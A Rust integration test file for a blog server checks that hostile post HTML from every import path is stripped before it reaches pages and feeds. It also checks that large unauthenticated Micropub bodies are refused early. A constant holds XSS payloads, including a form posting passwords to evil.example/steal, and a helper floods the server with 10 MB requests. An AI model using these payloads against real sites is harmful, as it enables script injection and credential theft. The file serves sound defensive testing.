//! Hostile content and hostile clients against a real `feder serve` process: post HTML from
//! every source (the CLI, Micropub, a WordPress export, Hugo files, rows stored before the
//! allowlist) reaches pages and feeds without anything that runs, while what a blogger writes
//! stays; Micropub refuses unauthenticated bodies before reading them, in time and in memory;
//! and `q=source` shows drafts only to a token that may edit them.

// A failed expect is a failed test.
#![allow(clippy::expect_used, clippy::unwrap_used)]

mod support;

use feder::db::entities::{post, setting};
use scraper::{Html, Selector};
use sea_orm::{
    ActiveModelTrait, ActiveValue::Set, ColumnTrait, Database, EntityTrait, QueryFilter,
};
use serde_json::{Value, json};
use std::{
    io::{Read, Write},
    net::TcpStream,
    process::Stdio,
    sync::Arc,
    time::{Duration, Instant},
};
use support::{Child, free_port};

/// A blog in a temporary directory, run by the `feder` binary.
struct Blog {
    dir: Arc<tempfile::TempDir>,
    blog: support::Blog,
    database: String,
    port: u16,
}

impl Blog {
    async fn new(name: &str) -> Blog {
        let dir = Arc::new(tempfile::tempdir().expect("dir"));
        let port = free_port();
        let blog = support::Blog::new(name)
            .dir(&dir)
            .port(port)
            .leases(30)
            .prepare()
            .await;
        let blog = Blog {
            dir,
            database: blog.config().database.url,
            blog,
            port,
        };
        // Set up as the owner does: the other commands do not create a blog.
        blog.run(&["migrate"]);
        blog
    }

    /// Runs a `feder` command to its end; its standard output.
    fn run(&self, args: &[&str]) -> String {
        let out = self
            .blog
            .command()
            .args(args)
            .current_dir(self.dir.path())
            .stdin(Stdio::null())
            .output()
            .expect("run feder");
        assert!(
            out.status.success(),
            "feder {args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8_lossy(&out.stdout).into_owned()
    }

    /// A Micropub token with `scope`, made by `feder token create`.
    fn token(&self, scope: &str) -> String {
        let line = self.run(&["token", "create", "--scope", scope]);
        line.lines()
            .next()
            .and_then(|l| l.rsplit(' ').next())
            .expect("token line")
            .to_string()
    }

    /// `feder serve`, answering once this returns.
    async fn serve(&self) -> Child {
        let child = self.blog.spawn(&["serve"]);
        let url = self.url("");
        support::eventually("feder serve answers", 60, || {
            let url = url.clone();
            async move { reqwest::get(&url).await.ok().map(|_| ()) }
        })
        .await;
        child
    }

    fn url(&self, path: &str) -> String {
        format!("http://localhost:{}/{path}", self.port)
    }

    fn write(&self, name: &str, text: &str) -> String {
        let path = self.dir.path().join(name);
        if let Some(parent) = path.parent() {
            std::fs::create_dir_all(parent).expect("mkdir");
        }
        std::fs::write(&path, text).expect("write");
        path.display().to_string()
    }
}

/// Markup that runs, submits or loads another page, in the forms attackers use.
const HOSTILE: &str = r#"<script>alert("script")</script>
<p onclick="alert('click')" style="position:fixed">styled</p>
<img src="x" onerror="alert('img')">
<a href="javascript:alert('link')">js link</a>
<a href="JaVaScRiPt&colon;alert('entity')">entity link</a>
<iframe src="https://evil.example/frame"></iframe>
<object data="https://evil.example/o.swf"></object><embed src="https://evil.example/e.swf">
<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>
<svg><script>alert('svg')</script></svg>
<style>body { display: none }</style>
<img srcset="javascript:alert('srcset') 1x" src="/media/ok.jpg">
<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')></style></mglyph></table></mtext></math>"#;

/// What a blogger writes and must keep.
const LEGITIMATE: &str = r#"
## Anfang {#anfang}

| links | mitte | rechts |
|:--|:--:|--:|
| a | b | c |

A claim.[^1]

```rust
fn main() {}
```

<details><summary>Mehr</summary>Versteckt</details>

<figure><img src="https://cdn.example/a.jpg" srcset="https://cdn.example/a-2x.jpg 2x" sizes="100vw" width="640" height="480" alt="Bild"><figcaption>Ein Bild</figcaption></figure>

<video controls preload="none" src="https://cdn.example/v.mp4"></video>

<audio controls src="https://cdn.example/a.mp3"></audio>

[^1]: The source.
"#;

/// The post's body on its page: nothing that runs, everything legitimate that was sent.
fn assert_clean(html: &Html, source: &str, legitimate: bool) {
    let body = Selector::parse(".e-content").unwrap();
    let body = html
        .select(&body)
        .next()
        .unwrap_or_else(|| panic!("{source}: no post body"));
    let text = body.html();
    for tag in [
        "script", "iframe", "object", "embed", "form", "input", "button", "style", "svg", "math",
    ] {
        let sel = Selector::parse(tag).unwrap();
        assert!(
            body.select(&sel).next().is_none(),
            "{source}: <{tag}> on the page: {text}"
        );
    }
    let all = Selector::parse("*").unwrap();
    for element in body.select(&all) {
        for (name, value) in element.value().attrs() {
            assert!(
                !name.starts_with("on") && name != "style",
                "{source}: attribute {name} kept: {text}"
            );
            let lower = value.to_ascii_lowercase();
            assert!(
                !lower.contains("javascript:"),
                "{source}: {name}={value:?} kept: {text}"
            );
        }
    }
    // The page as a whole runs nothing inline (the one data block is JSON-LD).
    let scripts = Selector::parse("script").unwrap();
    for script in html.select(&scripts) {
        assert_eq!(
            script.value().attr("type"),
            Some("application/ld+json"),
            "{source}"
        );
    }
    if legitimate {
        for selector in [
            "h2#anfang",
            "table th.align-left",
            "table td.align-center",
            "sup a[href]",
            "pre code.language-rust",
            "details summary",
            "figure img[srcset][sizes][width]",
            "figure figcaption",
            "video[controls][src]",
            "audio[controls][src]",
        ] {
            let sel = Selector::parse(selector).unwrap();
            assert!(
                body.select(&sel).next().is_some(),
                "{source}: {selector} is missing: {text}"
            );
        }
    }
}

const FORM: &str = "application/x-www-form-urlencoded";

fn form_body(fields: &[(&str, &str)]) -> String {
    url::form_urlencoded::Serializer::new(String::new())
        .extend_pairs(fields)
        .finish()
}

async fn page(url: &str) -> Html {
    let (status, html) = support::page(url).await;
    assert_eq!(status, 200, "{url}");
    html
}

/// A WordPress export with one published post whose content is `content`.
fn wxr(content: &str) -> String {
    format!(
        r#"<?xml version="1.0" encoding="UTF-8" ?>
<rss version="2.0" xmlns:excerpt="http://wordpress.org/export/1.2/excerpt/" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:wp="http://wordpress.org/export/1.2/">
<channel>
<title>Old</title><link>https://old.example</link><language>de-DE</language>
<wp:wxr_version>1.2</wp:wxr_version><wp:base_site_url>https://old.example</wp:base_site_url>
<item>
<title><![CDATA[Vom alten Blog]]></title>
<link>https://old.example/2024/01/vom-alten-blog/</link>
<dc:creator><![CDATA[admin]]></dc:creator>
<guid isPermaLink="false">https://old.example/?p=5</guid>
<content:encoded><![CDATA[{content}]]></content:encoded>
<excerpt:encoded><![CDATA[]]></excerpt:encoded>
<wp:post_id>5</wp:post_id>
<wp:post_date><![CDATA[2024-01-02 10:00:00]]></wp:post_date>
<wp:post_date_gmt><![CDATA[2024-01-02 09:00:00]]></wp:post_date_gmt>
<wp:post_modified_gmt><![CDATA[2024-01-02 09:00:00]]></wp:post_modified_gmt>
<wp:post_name><![CDATA[vom-alten-blog]]></wp:post_name>
<wp:status><![CDATA[publish]]></wp:status>
<wp:post_parent>0</wp:post_parent><wp:menu_order>0</wp:menu_order>
<wp:post_type><![CDATA[post]]></wp:post_type>
<wp:post_password><![CDATA[]]></wp:post_password>
</item>
</channel>
</rss>"#
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_post_html_is_dropped_whatever_its_source() {
    support::init();
    let blog = Blog::new("hostile_html").await;
    // The CLI, from a Markdown file.
    let file = blog.write(
        "cli.md",
        &format!("---\ntitle: Vom Terminal\nslug: cli\n---\n{LEGITIMATE}\n\n{HOSTILE}\n"),
    );
    blog.run(&["post", "publish", &file]);
    // A WordPress export (block editor and classic content alike go through it).
    let export = blog.write("export.xml", &wxr(&format!("<p>Alt.</p>\n\n{HOSTILE}")));
    blog.run(&["import", "wordpress", &export]);
    // Hugo files.
    blog.write(
        "hugo/content/posts/hugo.md",
        &format!("---\ntitle: Von Hugo\nslug: hugo\ndate: 2024-03-01T10:00:00Z\n---\n{LEGITIMATE}\n\n{HOSTILE}\n"),
    );
    let hugo = blog.dir.path().join("hugo").display().to_string();
    blog.run(&["import", "markdown", &hugo]);
    // Micropub, with a token that may only create: form-encoded text and JSON `html`.
    let token = blog.token("create");
    let _server = blog.serve().await;
    let client = support::client();
    let form = client
        .post(blog.url("micropub"))
        .bearer_auth(&token)
        .header("Content-Type", FORM)
        .body(form_body(&[
            ("h", "entry"),
            ("name", "Per Micropub"),
            ("mp-slug", "micropub-form"),
            ("content", &format!("{LEGITIMATE}\n\n{HOSTILE}")),
        ]))
        .send()
        .await
        .expect("micropub form");
    assert_eq!(form.status(), 201);
    let json_post = client
        .post(blog.url("micropub"))
        .bearer_auth(&token)
        .json(&json!({"type": ["h-entry"], "properties": {
            "name": ["Per JSON"], "mp-slug": ["micropub-json"],
            "content": [{"html": format!("<p>Hallo</p>{HOSTILE}")}]}}))
        .send()
        .await
        .expect("micropub json");
    assert_eq!(json_post.status(), 201);

    for (slug, legitimate) in [
        ("cli", true),
        ("vom-alten-blog", false),
        ("hugo", true),
        ("micropub-form", true),
        ("micropub-json", false),
    ] {
        let html = page(&blog.url(&format!("posts/{slug}"))).await;
        assert_clean(&html, slug, legitimate);
    }
    // Feeds and the Article carry the same cleaned body.
    for feed in ["feed.atom", "feed.rss", "feed.json"] {
        let text = client
            .get(blog.url(feed))
            .send()
            .await
            .expect("feed")
            .text()
            .await
            .expect("feed text");
        // Feeds carry the body as escaped text (XML) or a JSON string.
        for bad in [
            "<script",
            "&lt;script",
            "\\u003cscript",
            "onerror",
            "onclick",
            "javascript:",
            "iframe",
        ] {
            assert!(!text.to_lowercase().contains(bad), "{feed} has {bad}");
        }
    }
    // What the allowlist keeps is what the page's policy allows: no frames, no inline code.
    let answer = client
        .get(blog.url("posts/cli"))
        .send()
        .await
        .expect("page");
    let csp = answer.headers()["content-security-policy"]
        .to_str()
        .unwrap()
        .to_string();
    for directive in [
        "script-src 'self'",
        "style-src 'self'",
        "frame-src 'none'",
        "object-src 'none'",
    ] {
        assert!(csp.contains(directive), "{csp}");
    }
    assert!(!csp.contains("unsafe-inline"), "{csp}");
    let article: Value = client
        .get(blog.url("posts/micropub-form"))
        .header("Accept", "application/activity+json")
        .send()
        .await
        .expect("article")
        .json()
        .await
        .expect("article json");
    let content = article["content"].as_str().expect("content");
    assert!(content.contains("language-rust") && !content.contains("<script"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bodies_stored_before_the_allowlist_are_cleaned_at_start() {
    support::init();
    let blog = Blog::new("stored_html").await;
    let file = blog.write(
        "old.md",
        "---\ntitle: Alt\nslug: old\n---\nHallo <em>Welt</em>.\n",
    );
    blog.run(&["post", "publish", &file]);
    // As a database written by an older Feder holds it: raw HTML, no policy version.
    let db = Database::connect(&blog.database).await.expect("db");
    let row = post::Entity::find()
        .filter(post::Column::Slug.eq("old"))
        .one(&db)
        .await
        .expect("query")
        .expect("post");
    let mut row: post::ActiveModel = row.into();
    row.body_markdown = Set(format!("Hallo <em>Welt</em>.\n\n{HOSTILE}"));
    row.body_html = Set(format!("<p>Hallo <em>Welt</em>.</p>{HOSTILE}"));
    row.update(&db).await.expect("store raw");
    setting::Entity::delete_by_id("body_html_policy".to_string())
        .exec(&db)
        .await
        .expect("forget the version");
    drop(db);
    let _server = blog.serve().await;
    let html = page(&blog.url("posts/old")).await;
    assert_clean(&html, "stored", false);
    assert!(html.html().contains("<em>Welt</em>"));
}

/// Resident memory of a process, in MiB.
fn rss_mib(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
    status
        .lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse::<u64>().ok())
        .unwrap_or(0)
        / 1024
}

/// Sends a request head for a `length`-byte body and then the body in 64 KiB pieces, and
/// reads the answer: its status line and how many body bytes had been sent by then. A server
/// that reads the whole body first answers only after all of it.
fn send_large(port: u16, path: &str, extra_headers: &str, length: usize) -> (String, usize) {
    let mut stream = TcpStream::connect(("127.0.0.1", port)).expect("connect");
    stream
        .set_read_timeout(Some(Duration::from_millis(20)))
        .expect("timeout");
    let head = format!(
        "POST {path} HTTP/1.1\r\nHost: localhost:{port}\r\n{extra_headers}Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {length}\r\n\r\n"
    );
    stream.write_all(head.as_bytes()).expect("head");
    let piece = vec![b'a'; 64 * 1024];
    let mut sent = 0;
    let mut answer = Vec::new();
    let deadline = Instant::now() + Duration::from_secs(30);
    while Instant::now() < deadline {
        let mut buf = [0u8; 1024];
        match stream.read(&mut buf) {
            Ok(n) if n > 0 => {
                answer.extend_from_slice(&buf[..n]);
                if answer.windows(2).any(|w| w == b"\r\n") {
                    break;
                }
            }
            Ok(_) => break,
            Err(_) => {}
        }
        if sent < length {
            let n = piece.len().min(length - sent);
            if stream.write_all(&piece[..n]).is_err() {
                // The server closed the connection: its answer may be waiting.
                let _ = stream.set_read_timeout(Some(Duration::from_secs(2)));
                let mut rest = Vec::new();
                let _ = stream.read_to_end(&mut rest);
                answer.extend_from_slice(&rest);
                break;
            }
            sent += n;
            // Slower than a LAN: the server has time to read along if it wants to.
            std::thread::sleep(Duration::from_millis(2));
        }
    }
    let text = String::from_utf8_lossy(&answer);
    (text.lines().next().unwrap_or_default().to_string(), sent)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn micropub_refuses_unauthenticated_bodies_before_reading_them() {
    support::init();
    let blog = Blog::new("micropub_early").await;
    let _ = blog.token("create,media");
    let server = blog.serve().await;
    let pid = server.0.id();
    let port = blog.port;
    const TEN_MB: usize = 10 * 1024 * 1024;
    let cases = [
        ("/micropub", ""),
        ("/micropub", "Authorization: Bearer feder_wrong\r\n"),
        ("/micropub/media", ""),
        ("/micropub/media", "Authorization: Bearer feder_wrong\r\n"),
    ];
    for (path, headers) in cases {
        let (status, sent) =
            tokio::task::spawn_blocking(move || send_large(port, path, headers, TEN_MB))
                .await
                .expect("send");
        assert!(status.contains(" 401 "), "{path} {headers:?}: {status:?}");
        assert!(
            sent < TEN_MB / 2,
            "{path} {headers:?}: answered only after {sent} of {TEN_MB} bytes"
        );
    }
    // A small body may carry its token (the spec's form-encoded `access_token`), checked.
    let answer = support::client()
        .post(blog.url("micropub"))
        .header("Content-Type", FORM)
        .body(form_body(&[
            ("h", "entry"),
            ("content", "x"),
            ("access_token", "feder_wrong"),
        ]))
        .send()
        .await
        .expect("small");
    assert_eq!(answer.status(), 401);

    // Twenty 10 MB bodies at once, sent as fast as loopback allows: memory stays put.
    let before = rss_mib(pid);
    let mut tasks = Vec::new();
    for _ in 0..20 {
        tasks.push(tokio::task::spawn_blocking(move || {
            let mut stream = TcpStream::connect(("127.0.0.1", port)).expect("connect");
            let head = "POST /micropub HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n";
            let _ = stream.write_all(head.as_bytes());
            let chunk = [format!("{:x}\r\n", 1 << 20).into_bytes(), vec![b' '; 1 << 20], b"\r\n".to_vec()].concat();
            for _ in 0..10 {
                if stream.write_all(&chunk).is_err() {
                    break;
                }
            }
            let _ = stream.set_read_timeout(Some(Duration::from_secs(5)));
            let mut answer = [0u8; 64];
            let n = stream.read(&mut answer).unwrap_or(0);
            String::from_utf8_lossy(&answer[..n]).into_owned()
        }));
    }
    let peak = {
        let mut peak = 0;
        while tasks.iter().any(|t| !t.is_finished()) {
            peak = peak.max(rss_mib(pid));
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
        peak.max(rss_mib(pid))
    };
    for task in tasks {
        let answer = task.await.expect("task");
        assert!(answer.is_empty() || answer.contains(" 401 "), "{answer:?}");
    }
    let grown = peak.saturating_sub(before);
    eprintln!("RSS {before} MiB before, {peak} MiB at the peak of 20 × 10 MB unauthenticated");
    assert!(grown < 30, "memory grew by {grown} MiB");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn source_shows_drafts_only_to_a_token_that_may_edit() {
    support::init();
    let blog = Blog::new("micropub_source").await;
    let public = blog.write(
        "public.md",
        "---\ntitle: Offen\nslug: public\n---\nOffen.\n",
    );
    let draft = blog.write(
        "draft.md",
        "---\ntitle: Geheim\nslug: draft\ndraft: true\n---\nNoch nicht.\n",
    );
    blog.run(&["post", "publish", &public]);
    blog.run(&["post", "publish", &draft]);
    let create = blog.token("create");
    let update = blog.token("update");
    let _server = blog.serve().await;
    let client = support::client();
    let source = |token: String, slug: &str| {
        let url = format!(
            "{}?q=source&url={}",
            blog.url("micropub"),
            blog.url(&format!("posts/{slug}"))
        );
        let client = client.clone();
        async move {
            let answer = client
                .get(url)
                .bearer_auth(token)
                .send()
                .await
                .expect("GET");
            let status = answer.status().as_u16();
            (status, answer.json::<Value>().await.unwrap_or(Value::Null))
        }
    };
    let (status, body) = source(create.clone(), "public").await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(body["properties"]["content"][0], "Offen.");
    let (status, body) = source(create.clone(), "draft").await;
    assert_eq!(status, 403, "{body}");
    assert_eq!(body["error"], "insufficient_scope");
    assert!(!body.to_string().contains("Noch nicht"));
    let (status, body) = source(update, "draft").await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(body["properties"]["post-status"][0], "draft");
}
